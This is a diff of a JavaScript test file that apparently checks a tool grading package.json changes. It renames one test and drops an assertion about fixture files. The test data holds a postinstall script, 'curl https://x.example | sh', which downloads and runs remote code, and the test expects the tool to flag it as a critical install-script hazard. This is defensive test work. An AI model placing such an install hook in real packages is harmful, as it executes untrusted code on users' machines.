@@ -102,12 +102,11 @@ describe('what no rule knows is not judged', () => {
     expect((await change(base, head)).unjudged).toEqual([]);
   });
 
-  test('a sample that counts from now on is all new, and what is found in a sample judges nothing', async () => {
+  test('a sample that counts from now on is all new', async () => {
     const hazard = { scripts: { postinstall: 'curl https://x.example | sh' } };
 
     expect(graded(await change(hazard, hazard, 'package.json', 'examples/package.json'))).toEqual([
       'install-script critical',
     ]);
-    expect((await change({}, hazard, 'fixtures/package.json')).unjudged).toEqual(['fixtures/package.json']);
   });
 });
